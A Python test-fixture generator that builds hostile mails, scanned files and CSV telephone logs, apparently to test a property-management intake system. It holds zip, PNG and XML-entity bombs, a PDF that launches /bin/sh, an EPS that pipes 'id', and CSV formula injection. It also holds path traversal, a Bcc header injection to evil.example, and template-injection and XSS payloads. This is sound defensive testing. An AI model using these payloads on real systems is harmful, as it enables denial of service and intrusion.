"""Things that want to harm whoever reads them: mails, scans and telephone logs. Made here, so that each can be read and none is stored."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache

HEAD = "From: =?utf-8?b?6LW15piT?= <zhao@mail.example.com>\r\nTo: kefu@estate.example.com\r\nDate: Mon, 3 Mar 2025 08:00:00 +0800\r\n"
LEAK = "厨房水龙头坏了，请派人来修。"


def letter(name: str, headers: str = "", body: bytes | str = LEAK, head: str = HEAD) -> bytes:
    """One mail; its name stands in subject and Message-ID, so that no two are the same."""
    raw = body if isinstance(body, bytes) else body.encode("utf-8", "surrogatepass")
    subject = "" if "ubject:" in headers else f"Subject: {name}\r\n"
    ident = "" if "essage-ID:" in headers else f"Message-ID: <{name}@mail.example.com>\r\n"
    text = f"{head}{subject}{ident}{headers}"
    return text.encode("utf-8", "surrogateescape") + b"\r\n" + raw + b"\r\n-- " + name.encode() + b"\r\n"


def part(kind: str, body: bytes, name: str = "", more: str = "") -> bytes:
    disposition = f"Content-Disposition: attachment{name}\r\n" if name else ""
    head = f"Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n{disposition}{more}\r\n"
    return b"--b\r\n" + head.encode("utf-8", "surrogateescape") + base64.encodebytes(body) + b"\r\n"


def mixed(name: str, *parts: bytes) -> bytes:
    text = b"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + LEAK.encode() + b"\r\n"
    return letter(name, 'Content-Type: multipart/mixed; boundary="b"\r\n', text + b"".join(parts) + b"--b--\r\n")


def nested(depth: int) -> bytes:
    opening = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(depth))
    closing = b"".join(b"\r\n--b%d--" % n for n in range(depth)[::-1])
    return (
        f"{HEAD}Subject: nested {depth}\r\n".encode()
        + opening
        + b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
        + LEAK.encode()
        + closing
    )


CHARSETS = (
    "idna", "punycode", "zip", "zlib", "bz2", "hex", "rot13", "base64", "undefined", "unicode_escape", "raw_unicode_escape", "utf-7",
    "utf-16", "utf-32", "no-such-thing", "gb2312", "hz", "mbcs", "x" * 5000, "utf-8\0", "=?utf-8?q?x?=", "'; drop table", "../../etc/passwd",
)  # fmt: skip
NAMES = (
    "../../etc/passwd", "..\\..\\windows\\x", "C:\\x", "\u200b.htaccess", "a\x00.pdf", "CON", ".", "..", "/etc/shadow", "x" * 4096,
    '"><img src=x onerror=1>.png', "=cmd|'/c calc'!A1.csv", "\u202egnp.exe", "a\r\nBcc: v@evil.example", "%2e%2e%2f", "~root/.ssh", "|id", "$(id)",
)  # fmt: skip
SUBJECTS = (
    "{{7*7}}", "{{''.__class__.__mro__}}", "{%for i in range(10**9)%}x{%endfor%}", "ok\n<0>kernel: root login\x1b[2J", "=cmd|'/c calc'!A1",
    "＝1+1", "' OR 1=1--", "%s%s%s%n", "\u202e\u2066漏水", "a\u0301" * 600, "𠮷" * 900, "\ufeff\u200b", "<script>alert(1)</script>",
    "#set page(width: 1pt)", "#eval(\"1\")", "$(id)`id`", "[[[__import__('os')]]]",
)  # fmt: skip
MARKUP = (
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg onload=alert(1)>", "<a href='\x01javascript:alert(1)'>x</a>",
    "<div>" * 30000, "<!--" + "x" * 200000, "<" * 200000, "&#x" + "9" * 50000 + ";", "<style>" + "*{" * 50000, "<table>" + "<tr><td>" * 20000,
    "<img src='file:///etc/passwd'><font color=\"[[[__import__('os')]]]\">", "<blockquote>" * 20000 + LEAK, "<base href='http://evil.example/'><p>" + LEAK,
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)  # fmt: skip
BODIES = (
    "On x at x wrote " * 20000, ">" * 1_000_000, "m" + "te" * 100_000, "x" * 1_048_576, "> " * 200_000, "-" * 500_000, "发件人:" * 100_000,
    "\r\n.\r\nMAIL FROM:<v@evil.example>\r\n", "KF20250303-0001 " * 20000, "138" * 100_000, "5号楼" * 60_000, "1" * 400_000, "一、" * 100_000,
    "退回" * 50_000, "收到" * 100_000, "(" * 200_000, "\ud800\udfff" * 500, "2025年" * 50_000, "第1期" * 50_000, "\n" * 400_000,
)  # fmt: skip
FIELDS = (
    "Content-Type: text/plain" + ";" * 50_000, "To: " + "a@b," * 16_000, "To: " + "(" * 900, "To: " + "(" * 16_000, "From: " + "<" * 9000,
    "Subject:" + " =?utf-8?q?a?=" * 1200, "Message-ID: <[", "Message-ID: " + "<" * 15000, "References: " + "<a@b> " * 3000,
    "In-Reply-To: <kefud.t1." + "a" * 9000 + "@x>", "Content-Type: multipart/mixed", "Content-Type: multipart/mixed; boundary=",
    'Content-Type: multipart/mixed; boundary="' + "b" * 300 + '"', 'Content-Type: multipart/mixed; boundary="(.*)+$"',
    "Content-Type: message/rfc822", "Content-Type: message/partial; id=1; number=1; total=99999", "Content-Type: message/external-body; access-type=local-file; name=/etc/passwd",
    "Content-Transfer-Encoding: x-uuencode", "Content-Transfer-Encoding: " + "base64" * 2000, "Content-Type: text/plain; charset*0=ut; charset*1=f-8; charset*9999=x",
    "Date: Thu, 01 Jan 0000 00:00:00 +9999", "Date: Mon, 99 Foo 99999 99:99:99 -9999", "Received: from x; Mon, 03 Mar 99999 08:00:00 +0800",
    "Received: " + "from x by y " * 1200, "Authentication-Results: mx.estate.example.com; " + "(" * 15000, "X: y\r\n" * 30000, "X" * 20000 + ": y",
    "From: =?utf-8?q?a?=@[::1", "From: a@b, c@d", "From:", "From: ~.*@.*~", "Content-Disposition: attachment; filename*0*=gbk''%C2; filename*1*=%A9",
    "MIME-Version: 99", "Content-Type: text/html; charset=utf-7", "Content-Type: application/ms-tnef", "Content-Language: " + "zh," * 5000,
)  # fmt: skip
BYTES: dict[str, bytes] = {
    "nothing": b"", "one line end": b"\n", "nul": b"\0" * 5000, "ff": b"\xff" * 5000, "gzip": zlib.compress(b"x" * 100_000), "jpeg": b"\xff\xd8\xff\xe0" + b"\0" * 900,
    "only cr": b"Subject: only cr\rFrom: a@mail.example.com\r\r" + LEAK.encode() + b"\r", "no head": b"\r\n" + LEAK.encode() + b" no head", "no end": b"Subject: no end",
    "mbox": b"From zhao@mail.example.com Mon Mar  3 08:00:00 2025\nFrom: zhao@mail.example.com\nSubject: mbox\n\n" + LEAK.encode(),
    "gbk everywhere": ("From: 赵易 <zhao@mail.example.com>\r\nSubject: 漏水\r\n\r\n" + LEAK).encode("gb18030"),
    "mail in mail in mail": b"Subject: matryoshka\r\n" + b"Content-Type: message/rfc822\r\n\r\n" * 3000 + b"Subject: x\r\n\r\nbottom",
    "colon": b":\r\n" * 3000, "space": b" " * 70_000 + b"x", "crlf": b"\r\n" * 40_000 + b"x", "a word": b"x",
}  # fmt: skip


@cache
def zip_bomb() -> bytes:
    inner = b"\0" * 10_000_000
    for _ in range(3):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            for n in range(10):
                archive.writestr(f"{n}.zip", inner)
        inner = packed.getvalue()
    return inner


def xlsx_laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("xl/workbook.xml", f"<?xml version='1.0'?><!DOCTYPE x [{entities}]><x>&l9;</x>")
    return packed.getvalue()


def mails() -> Iterator[tuple[str, bytes]]:
    """Name → mail. None of them is automatic, so each must end with a person."""
    yield from BYTES.items()
    for depth in (30, 900, 3000):
        yield f"nested {depth}", nested(depth)
    for count in (1_000, 50_000):
        yield (
            f"parts {count}",
            letter(f"parts{count}", "Content-Type: multipart/mixed; boundary=b\r\n", b"--b\r\n\r\n\r\n" * count + b"--b--"),
        )
    for n, charset in enumerate(CHARSETS):
        yield f"charset {charset[:20]!r}", letter(f"charset{n}", f'Content-Type: text/plain; charset="{charset}"\r\n')
        yield f"word {charset[:20]!r}", letter(f"word{n}", f"Subject: =?{charset}?b?wqnLrg==?= word{n}\r\n")
    for n, field in enumerate(FIELDS):
        own = field.lower().startswith(("from", "date", "to:"))
        head = "".join(
            line + "\r\n"
            for line in HEAD.splitlines()
            if not (own and line.split(":")[0].lower() == field.split(":")[0].lower())
        )
        yield f"field {field[:40]!r}", letter(f"field{n}", f"{field}\r\n", head=head)
    for n, subject in enumerate(SUBJECTS):
        words = base64.b64encode(subject.encode()).decode()
        yield (
            f"subject {subject[:20]!r}",
            letter(f"subject{n}", f"Subject: =?utf-8?b?{words}?= subject{n}\r\n", f"{subject}{LEAK}"),
        )
    for n, body in enumerate(BODIES):
        yield f"body {body[:20]!r}", letter(f"body{n}", "Content-Type: text/plain; charset=utf-8\r\n", body)
    for n, markup in enumerate(MARKUP):
        yield f"html {markup[:20]!r}", letter(f"html{n}", "Content-Type: text/html; charset=utf-8\r\n", markup + LEAK)
    for n, name in enumerate(NAMES):
        plain = name.replace("\r", "").replace("\n", "").replace("\0", "").replace('"', "")
        coded = "".join(f"%{byte:02X}" for byte in name.encode())
        raw = part("application/octet-stream", b"x%d" % n, f'; filename="{plain}"')
        both = part("image/png", b"y%d" % n, f"; filename*=utf-8''{coded}")
        word = part("text/csv", b"z%d" % n, f'; filename="=?utf-8?b?{base64.b64encode(name.encode()).decode()}?="')
        yield f"file {name[:20]!r}", mixed(f"file{n}", raw, both, word)
    yield "zip bomb", mixed("zipbomb", part("application/zip", zip_bomb(), "; filename=a.zip"))
    yield "xlsx laughs", mixed("laughs", part("application/vnd.ms-excel", xlsx_laughs(), "; filename=a.xlsx"))
    yield "zeros", mixed("zeros", part("application/octet-stream", b"\0" * 6_000_000, "; filename=zeros"))
    yield "same names", mixed("same", *(part("text/plain", b"%d" % n, "; filename=a.txt") for n in range(300)))
    yield "base64 of nonsense", letter("nonsense", "Content-Transfer-Encoding: base64\r\n", b"A=" * 150_000)
    yield "quoted nonsense", letter("quoted", "Content-Transfer-Encoding: quoted-printable\r\n", b"=" * 300_000)
    yield (
        "svg",
        mixed("svg", part("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "; filename=a.svg")),
    )


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int) -> bytes:
    """A picture of ``side``² black dots in a few kilobytes."""
    row = b"\0" * (1 + (side + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def pdf(content: bytes = b"", box: str = "0 0 595 842", more: bytes = b"", pages: int = 1, page: str = "") -> bytes:
    """A PDF of one text stream, without compression."""
    kids = " ".join(f"{n + 4} 0 R" for n in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %b >>" % more, f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        b"<< /Length %d >>\nstream\n%b\nendstream" % (len(content), content),
        *[f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 3 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> {page} >> >>".encode()] * pages,
    ]  # fmt: skip
    out, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"xref\n0 %d\n0000000000 65535 f \n%btrailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, table, len(objects) + 1, len(out),
    )  # fmt: skip


GOOD_PAPER = pdf(
    b"BT /F 14 Tf 60 700 Td (Please repair the light in the hall of house 5, it has been broken for two weeks.) Tj ET"
)


def tiff(width: int, height: int, after: int = 0) -> bytes:
    """A TIFF with one strip; ``after`` is where it says the next directory stands."""
    tags = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 1),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (278, 4, 1, height),
        (279, 4, 1, 8),
    ]
    body = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    return b"II*\0" + struct.pack("<I", 16) + b"\0" * 8 + struct.pack("<H", len(tags)) + body + struct.pack("<I", after)


def papers() -> Iterator[tuple[str, bytes]]:
    """File name → scan that wants to harm. All end in a way their format allows, so that nobody waits for the rest."""
    yield "bomb13300.png", png_bomb(13300)
    yield "bomb30000.png", png_bomb(30000)
    yield "page14400.pdf", pdf(b"0 0 m 14400 14400 l S", "0 0 14400 14400")
    yield "page1e9.pdf", pdf(b"", "0 0 1000000000 1000000000")
    yield "negative.pdf", pdf(b"", "0 0 -1 -1")
    yield "pages300.pdf", pdf(b"BT /F 9 Tf 9 9 Td (x) Tj ET", pages=300)
    yield "javascript.pdf", pdf(b"", more=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    yield "launch.pdf", pdf(b"", more=b"/OpenAction << /S /Launch /F (/bin/sh) >>")
    yield (
        "loop.pdf",
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] >>\nendobj\ntrailer << /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF\n",
    )
    yield "no-pages.pdf", b"%PDF-1.4\ntrailer << >>\n%%EOF\n"
    yield "deep.pdf", b"%PDF-1.4\n1 0 obj\n" + b"[" * 100_000 + b"\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    yield "operators.pdf", pdf(b"q " * 500_000)
    yield "ones.tif", tiff(60000, 60000)
    yield "ring.tif", tiff(8, 8, after=16)
    yield "far.tif", tiff(8, 8, after=2**31)
    yield (
        "truncated.jpg",
        b"\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xda\x00\x08" + b"\0" * 900 + b"\xff\xd9",
    )
    yield (
        "big.jpg",
        b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x11\x00\x02\x11\x01\x03\x11\x01\xff\xda\x00\x0c\x03\x01\0\x02\x11\x03\x11\0\x3f\0"
        + b"\0" * 99
        + b"\xff\xd9",
    )
    yield "zip.png", zip_bomb()
    yield "svg.png", b"<svg xmlns='http://www.w3.org/2000/svg'><image href='file:///etc/passwd'/></svg>"
    yield "eps.pdf", b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n%%EOF\n"


HEADS = "呼叫编号,呼叫时间,呼叫类型,主叫号码,被叫号码,通话时长,通话状态,来电内容\n"
ROW = "A{0},2025-03-03 08:15:00,呼入,13800000{1:03d},80000000,102,已接听,{2}\n"


def logs() -> Iterator[tuple[str, bytes]]:
    """File name → telephone log that wants to harm."""
    row = ROW.format
    yield (
        "formulae.csv",
        (
            HEADS + "".join(row(f"F{n}", n, text) for n, text in enumerate(("=cmd|'/c calc'!A1", "+1+1", "@SUM(1)", "-2+3")))
        ).encode(),
    )
    yield "half.csv", (HEADS + row("H1", 1, "路灯坏了") + "AH2,2025-03-03 08:16").encode()
    yield "empty.csv", b""
    yield "nul.csv", (HEADS + row("N1", 2, "漏\0水")).encode()
    yield "quote.csv", (HEADS + 'AQ1,2025-03-03 08:15:00,呼入,13800000003,80000000,1,已接听,"' + "x" * 100_000).encode()
    yield "columns.csv", ("a," * 20_000 + "\n" + "1," * 20_000 + "\n").encode()
    yield "binary.csv", bytes(range(256)) * 900
    yield "utf16.csv", (HEADS + row("U1", 4, "电梯异响")).encode("utf-16")
    yield "utf16-no-bom.csv", (HEADS + row("U2", 5, "电梯异响")).encode("utf-16-le")
    yield "gbk.csv", (HEADS + row("G1", 6, "门禁失灵")).encode("gb18030")
    yield (
        "times.csv",
        (
            HEADS + "AT1,9999-99-99 99:99:99,呼入,1,2,3,已接听,x\nAT2,,,,,,,\nAT3,0000-00-00,呼入,13800000007,2,-5,已接听,x\n"
        ).encode(),
    )
    yield "cell.csv", (HEADS + row("C1", 8, "漏" * 60_000)).encode()
    yield "no-heads.csv", row("X1", 9, "没有表头").encode()
    yield "mail.csv", letter("a mail in the wrong folder")
    yield "template.csv", (HEADS + row("J1", 10, "{{7*7}} {%for i in range(10**9)%}")).encode()
    yield "twice.csv", (HEADS + row("D1", 11, "重复") * 50).encode()
